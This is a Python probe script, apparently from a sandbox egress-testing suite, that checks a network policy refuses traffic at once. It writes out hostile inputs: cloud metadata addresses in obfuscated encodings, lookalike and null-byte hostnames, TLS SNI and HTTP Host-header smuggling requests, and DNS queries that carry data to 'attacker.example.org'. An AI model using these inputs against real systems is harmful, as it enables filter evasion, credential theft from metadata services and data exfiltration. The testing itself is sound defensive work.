"""Reach what a policy does not allow, by name and by address, in every way of saying it; a no must come at once."""

import socket
import ssl
import struct
import time

from ringfence.attack.probes.prelude import attempt, facts, name_of, say, text_of

HERE = "198.18.0.1"  # the other end of every sandbox's wire
METADATA = ["169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192"]
SPELT = ["0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "169.16689662", "169.254.43518"]
METADATA6 = ["::ffff:169.254.169.254", "fd00:ec2::254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::", "::a9fe:a9fe"]
PRIVATE = ["10.0.0.1", "172.17.0.1", "192.168.0.1", "192.168.122.1", "100.64.0.1", "240.0.0.1"]
PUBLIC = "8.8.8.8"  # a stranger's: not one packet may go there
OK = "allowed.example"  # the one name on the list; nobody is ever asked for it
LOOKALIKES = [
    "evil.example.net", f"{OK}.evil.net", f"evil{OK}", f"x.{OK}", f"{OK}.", f"evil.net\0.{OK}", f"{OK}\0.evil.net",
    f"{OK}@evil.net", f"{OK}:443@evil.net", "xn--allwed-nta.example", f"{OK}/", f" {OK}", f"{OK}%00", "*.example",
    PUBLIC, "0x08080808", "010.010.010.010", "[::ffff:808:808]", "metadata.google.internal", "localhost", "",
]  # fmt: skip
LATE = 20.0  # a refusal that takes longer is a hang; it comes in milliseconds where nobody is busy
found: list[str] = []
tried = 0


def note(what: str, outcome: str, begun: float) -> None:
    """One try: a refusal that the program can read, or something for the report."""
    global tried  # noqa: PLW0603 - a program of one page
    tried += 1
    if outcome != "no":
        found.append(f"{what}: {outcome}")
    elif time.monotonic() - begun > LATE:
        found.append(f"{what}: refused after {time.monotonic() - begun:.1f} s")


def asked(address: str, port: int, words: bytes, family: int = socket.AF_INET) -> str:
    """Connect, say something, hear what comes: "no" for a refusal in any language, else what it was."""
    heard = b""
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(2 * LATE)
        try:
            sock.connect((address, port))
            sock.sendall(words)
            while len(heard) < 65536 and (more := sock.recv(4096)):
                heard += more
        except TimeoutError:
            return "silence"
        except OSError as error:
            if not heard:
                refused = {"ECONNRESET", "ECONNREFUSED", "ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL", "EPIPE"}
                return "no" if name_of(error.errno) in refused else f"failed: {error}"
    if heard.startswith(b"\x15\3\3\0\2\2") or b"\r\nX-Ringfence: denied\r\n" in heard:
        return "no"
    return f"answered {heard[:80]!r}"


def datagram(address: str, port: int, words: bytes, seconds: float = LATE) -> bytes:
    """Send one and wait for an answer. Raises OSError when it is refused, TimeoutError when nothing comes."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(seconds)
        sock.connect((address, port))
        sock.send(words)
        return sock.recv(4096)


def told(address: str, port: int) -> str:
    """A datagram elsewhere than to a resolver: an error at once, so that a program falls back."""
    try:
        return f"answered {datagram(address, port, b'hello')[:40]!r}"
    except TimeoutError:
        return "silence"
    except OSError:
        return "no"


def get(host: str, path: str = "/", more: str = "") -> bytes:
    """A plain request, for any kind of host."""
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode("latin-1", "replace")


def hello(*hosts: str, extra: bytes = b"") -> bytes:
    """The first message of TLS, with these names in it, made by hand."""
    listed = b"".join(b"\0" + struct.pack(">H", len(h.encode())) + h.encode() for h in hosts)
    named = struct.pack(">HHH", 0, len(listed) + 2, len(listed)) + listed if hosts else b""
    extensions = named + extra
    body = b"\3\3" + bytes(32) + b"\0\0\2\x13\1\1\0" + struct.pack(">H", len(extensions)) + extensions
    message = b"\1" + len(body).to_bytes(3, "big") + body
    return b"\x16\3\1" + struct.pack(">H", len(message)) + message


def question(name: bytes, kind: int = 1) -> bytes:
    """A question to a resolver; a name may be anything."""
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b".") if label)
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def resolved(server: str, name: bytes, kind: int = 1) -> str:
    """Ask a resolver by datagram: "no" when it refuses to ask anybody."""
    try:
        answer = datagram(server, 53, question(name, kind))
    except TimeoutError:
        return "silence"
    except OSError as error:
        return f"failed: {error}"
    return "no" if answer[3] & 15 in {1, 5} and answer[6:8] == b"\0\0" else f"answered {answer[:60]!r}"


def streamed(server: str, name: bytes, kind: int = 1) -> str:
    """The same by stream."""
    words = question(name, kind)
    try:
        with socket.create_connection((server, 53), 2 * LATE) as sock:
            sock.sendall(len(words).to_bytes(2, "big") + words)
            answer = sock.recv(4096)[2:]
    except TimeoutError:
        return "silence"
    except OSError as error:
        return f"failed: {error}"
    return "no" if answer[3] & 15 in {1, 5} and answer[6:8] == b"\0\0" else f"answered {answer[:60]!r}"


def by_program(name: str) -> str:
    """As any program would, by the C library."""
    return "no" if attempt(socket.getaddrinfo, name, 80) != "ok" else "resolved"


def real_tls(name: str) -> str:
    """As any program would, by OpenSSL."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with socket.create_connection((PUBLIC, 443), 2 * LATE) as sock, context.wrap_socket(sock, server_hostname=name):
            return "shook hands"
    except (ssl.SSLError, ConnectionError, ValueError):
        return "no"
    except OSError as error:
        return f"failed: {error}"


def below_the_floor() -> None:
    """Under a rule for every address: what no policy can allow."""
    own = facts.get("addresses", [])
    ports = facts.get("tcp_ports", [])
    for address in [*METADATA, *SPELT, *PRIVATE, *own, "198.18.0.2", "198.18.0.3", "198.18.1.1", "198.19.255.254"]:
        for port in [80, 443, *(ports if address in own else [])]:
            words = hello("metadata.google.internal") if port == 443 else get(address)
            begun = time.monotonic()
            note(f"tcp {address}:{port}", asked(address, port, words), begun)
    for port in [1, 22, 80, 443, 8642, *ports]:
        begun = time.monotonic()
        note(f"gateway {port}", asked(HERE, port, get(HERE)), begun)
    for address in METADATA6:
        begun = time.monotonic()
        note(f"tcp [{address}]:80", asked(address, 80, get("metadata"), socket.AF_INET6), begun)
    for address in [*METADATA, *own, "198.18.0.2"]:
        for port in (80, 123, 443):
            begun = time.monotonic()
            note(f"udp {address}:{port}", told(address, port), begun)


def data_in_names() -> None:
    """Questions that carry something out, or bring something in, to our resolver and to others."""
    resolver = text_of("/etc/resolv.conf").split()[1]
    data = b"k" * 63
    carried = [b".".join([data, data, data, b"attacker"]), data + b".attacker.example.org", b"evil\0.allowed.example"]
    for server in (resolver, PUBLIC, "1.1.1.1", "169.254.169.253"):
        for name in [*carried, b"example.com", b"x.allowed.example", b"localhost", b"metadata.google.internal"]:
            begun = time.monotonic()
            note(f"dns {name[:40]!r} at {server}", resolved(server, name), begun)
        begun = time.monotonic()
        note(f"dns by stream at {server}", streamed(server, carried[1]), begun)
        for port in (853, 5353):
            begun = time.monotonic()
            note(f"port {port} of {server}", asked(server, port, hello("dns.google")), begun)
    for kind in (10, 12, 15, 16, 33, 252, 255, 257):  # data may come back in any of them: only addresses are asked for
        begun = time.monotonic()
        note(f"dns kind {kind}", resolved(resolver, OK.encode(), kind), begun)


def other_names() -> None:
    """Names that are taken for the allowed one by whoever reads carelessly."""
    for name in LOOKALIKES:
        begun = time.monotonic()
        note(f"tls to {name!r}", asked(PUBLIC, 443, hello(name)), begun)
        begun = time.monotonic()
        note(f"http to {name!r}", asked(PUBLIC, 80, get(name)), begun)
        if name[-1:].isalpha() and "\0" not in name and name != "localhost":  # numbers are addresses, without asking
            begun = time.monotonic()
            note(f"name {name!r}", by_program(name), begun)
    for name in ("evil.example.net", "cloudflare-dns.com"):
        begun = time.monotonic()
        note(f"OpenSSL to {name}", real_tls(name), begun)


def smuggled() -> None:
    """The allowed name where it means nothing, beside another, or hidden; and what is neither TLS nor HTTP."""
    encrypted = struct.pack(">HH", 0xFE0D, 8) + bytes(8)
    tries = {
        "tls by an address nobody gave": (443, hello(OK)),
        "tls without a name": (443, hello()),
        "tls with two names": (443, hello(OK, "evil.example.net")),
        "tls with a hidden name": (443, hello(OK, extra=encrypted)),
        "no tls": (443, b"SSH-2.0-x\r\n"),
        "http by an address nobody gave": (80, get(OK)),
        "no host": (80, b"GET / HTTP/1.1\r\n\r\n"),
        "old http": (80, b"GET /\r\n\r\n"),
        "two hosts": (80, get(OK, more="Host: evil.example.net\r\n")),
        "absolute": (80, get(OK, "http://evil.example.net/")),
        "connect": (80, b"CONNECT evil.net:443 HTTP/1.1\r\nHost: x\r\n\r\n"),
        "http2": (80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        "another port": (8080, get(f"{OK}:8080")),
        "ssh": (22, b"SSH-2.0-x\r\n"),
        "mail": (25, b"EHLO x\r\n"),
    }
    for what, (port, words) in tries.items():
        begun = time.monotonic()
        note(what, asked(PUBLIC, port, words), begun)
    for port in (80, 123, 443, 5353, 51820):  # QUIC, clocks, multicast names, tunnels
        begun = time.monotonic()
        note(f"udp {PUBLIC}:{port}", told(PUBLIC, port), begun)


if facts["way"] == "floor":
    below_the_floor()
else:
    data_in_names()
    other_names()
    smuggled()
say(found=found, tried=tried)
